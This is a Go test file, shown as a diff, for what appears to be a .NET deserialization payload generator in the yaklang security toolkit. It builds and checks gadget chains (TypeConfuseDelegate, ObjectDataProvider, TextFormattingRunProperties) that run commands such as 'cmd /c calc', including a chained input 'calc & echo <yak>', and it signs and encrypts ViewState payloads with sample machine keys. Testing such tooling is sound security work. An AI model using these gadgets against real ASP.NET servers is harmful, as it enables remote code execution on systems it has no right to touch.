@@ -0,0 +1,142 @@
+package ysonet
+
+import (
+	"bytes"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/yaklang/yaklang/common/netserx"
+)
+
+// collectObjectIds collect the object ids and references in records
+func collectObjectIds(records []netserx.NRBFRecord, ids map[int32]bool, refs map[int32]bool) {
+	for _, record := range records {
+		switch ret := record.(type) {
+		case *netserx.NRBFClass:
+			ids[ret.ObjectId] = true
+			collectObjectIds(ret.Values, ids, refs)
+		case *netserx.NRBFArray:
+			ids[ret.ObjectId] = true
+			collectObjectIds(ret.Values, ids, refs)
+		case *netserx.NRBFString:
+			ids[ret.ObjectId] = true
+		case *netserx.NRBFReference:
+			refs[ret.IdRef] = true
+		}
+	}
+}
+
+func TestBinaryFormatterGadgets(t *testing.T) {
+	for _, gadget := range GetAllFormatGadgets(FormatBinaryFormatter) {
+		payload, err := Generate(gadget.Name, "calc & echo <yak>")
+		if err != nil {
+			t.Fatalf("generate %s failed: %v", gadget.Name, err)
+		}
+		if payload.Verbose().Name != gadget.Name {
+			t.Fatalf("gadget %s verbose mismatch", gadget.Name)
+		}
+		raw, err := ToBytes(payload)
+		if err != nil {
+			t.Fatal(err)
+		}
+		records, err := netserx.ParseBinaryFormatter(raw)
+		if err != nil {
+			t.Fatalf("parse %s failed: %v", gadget.Name, err)
+		}
+		if !bytes.Equal(netserx.MarshalBinaryFormatter(records...), raw) {
+			t.Fatalf("gadget %s round trip mismatch", gadget.Name)
+		}
+		ids, refs := map[int32]bool{}, map[int32]bool{}
+		collectObjectIds(records, ids, refs)
+		for ref := range refs {
+			if !ids[ref] {
+				t.Fatalf("gadget %s refers to missing object #%d:\n%s", gadget.Name, ref, Dump(payload))
+			}
+		}
+		if !strings.Contains(Dump(payload), "calc &") {
+			t.Fatalf("gadget %s missing command:\n%s", gadget.Name, Dump(payload))
+		}
+
+		los, err := ToLosFormatter(payload)
+		if err != nil {
+			t.Fatal(err)
+		}
+		node, _, err := netserx.ParseLosFormatter(los)
+		if err != nil || !strings.HasPrefix(los, "/wEy") || !bytes.Equal(node.Value.([]byte), raw) {
+			t.Fatalf("gadget %s losformatter failed: %v", gadget.Name, err)
+		}
+	}
+}
+
+func TestTypeConfuseDelegate(t *testing.T) {
+	payload, err := GetTypeConfuseDelegatePayload("calc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dump := Dump(payload)
+	for _, keyword := range []string{
+		`ArraySingleString #4 string[2] [`, `#6 "/c calc"`, `#7 "cmd"`,
+		`targetTypeName <string>: #14 "System.Diagnostics.Process"`,
+		`ClassWithId #10 System.Reflection.MemberInfoSerializationHolder (metadata #9)`,
+		`MemberType <int32>: int32(8)`,
+	} {
+		if !strings.Contains(dump, keyword) {
+			t.Fatalf("dump missing %q:\n%s", keyword, dump)
+		}
+	}
+	if _, err := GetTypeConfuseDelegatePayload(""); err == nil {
+		t.Fatal("empty command should fail")
+	}
+}
+
+func TestObjectDataProvider(t *testing.T) {
+	payload, err := GetObjectDataProviderPayload(`calc "x"`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(string(payload.Raw), `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework`) {
+		t.Fatalf("$type should be the first key: %s", payload.Raw)
+	}
+	var ret map[string]any
+	if err := json.Unmarshal(payload.Raw, &ret); err != nil {
+		t.Fatal(err)
+	}
+	values := ret["MethodParameters"].(map[string]any)["$values"].([]any)
+	if values[0] != "cmd" || values[1] != `/c calc "x"` {
+		t.Fatalf("bad parameters: %v", values)
+	}
+	if _, err := ToLosFormatter(payload); err == nil {
+		t.Fatal("json.net payload should not be wrapped in losformatter")
+	}
+}
+
+func TestToViewState(t *testing.T) {
+	payload, err := GetTextFormattingRunPropertiesPayload("calc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := ToObjectStateFormatter(payload)
+	if err != nil {
+		t.Fatal(err)
+	}
+	validationKey := netserx.WithViewStateValidationKey("B3C2624FF313478C1E5BB3B3ED7C21A121389C544F3E38F3AA46C51E91E1ED99E1BDF960C7AC")
+	signed, err := ToViewState(payload, validationKey, netserx.WithViewStateValidationAlg("SHA1"), netserx.WithViewStateGenerator("CA0B0334"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	verified, err := netserx.VerifyViewState(signed, validationKey, netserx.WithViewStateValidationAlg("SHA1"), netserx.WithViewStateGenerator("CA0B0334"))
+	if err != nil || !bytes.Equal(verified, data) {
+		t.Fatalf("verify signed viewstate failed: %v", err)
+	}
+
+	opts := []netserx.ViewStateOption{validationKey, netserx.WithViewStateDecryptionKey("34C69D15ADD80DA4788E6E3D02694230CF8E9ADFDA2708EF43CAEF4C5BC73887"), netserx.WithViewStatePage("/", "default_aspx")}
+	encrypted, err := ToViewState(payload, opts...)
+	if err != nil {
+		t.Fatal(err)
+	}
+	decrypted, err := netserx.DecryptViewState(encrypted, opts...)
+	if err != nil || !bytes.Equal(decrypted, data) {
+		t.Fatalf("decrypt viewstate failed: %v", err)
+	}
+}